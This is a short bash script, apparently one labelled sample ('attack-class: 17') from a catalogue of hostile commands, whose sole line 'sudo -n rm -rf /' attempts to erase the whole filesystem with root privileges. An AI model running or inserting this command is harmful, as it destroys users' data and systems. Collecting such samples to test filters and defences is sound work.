#!/usr/bin/env bash
# attack-class: 17
# title: sudo rm
# why: privilege escalation wrapper

sudo -n rm -rf /
